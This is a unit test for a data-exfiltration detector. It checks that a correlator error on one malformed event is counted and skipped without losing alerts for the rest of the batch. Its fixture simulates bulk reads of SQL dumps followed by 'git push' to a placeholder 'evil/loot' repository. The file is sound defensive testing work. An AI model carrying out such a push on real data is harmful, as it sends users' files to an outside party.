/**
 * A bug the correlator meets on one event must not drop the rest of its batch: the app caught a throw per
 * batch, so every event after the failing one (up to 512) went uncorrelated, and a push among them was never
 * judged. The event is counted as a correlator error and skipped; the batch goes on.
 */
import { describe, expect, it } from 'vitest';
import type { NormalizedEvent } from '../../../src/model/normalized-event.js';
import { brief, counterValue, MiB, run, Scenario } from './builder.js';

/** A bulk read, then a git push, in one container. */
function bulkThenPush(): NormalizedEvent[] {
  const s = new Scenario();
  const c = s.container();
  const sh = s.exec(c, '/bin/sh', '-c backup', { parent: s.init(c) });
  for (let i = 0; i < 40; i++) s.read(sh, `/data/dump-${i}.sql`, 2 * MiB).wait(10);
  const git = s.exec(c, '/usr/bin/git', 'push https://github.com/evil/loot.git main', { parent: sh });
  s.read(git, '/data/.git/objects/pack/p.pack', MiB);
  return s.events;
}

describe('an event the correlator fails on', () => {
  it('is counted and skipped; the rest of its batch is correlated and its push alerts', async () => {
    const events = bulkThenPush();
    const baseline = brief(run(events).alerts);
    expect(baseline).toHaveLength(1);
    // An event no sensor path makes (a file event without its file): reading it throws inside the correlator.
    const broken = { ...events[1]!, kind: 'file', file: null } as unknown as NormalizedEvent;
    const { alerts, metrics } = run([events[0]!, broken, ...events.slice(1)]);
    expect(brief(alerts)).toEqual(baseline);
    expect(await counterValue(metrics, 'exfilwatch_component_errors_total', { component: 'correlator' })).toBe(1);
  });
});
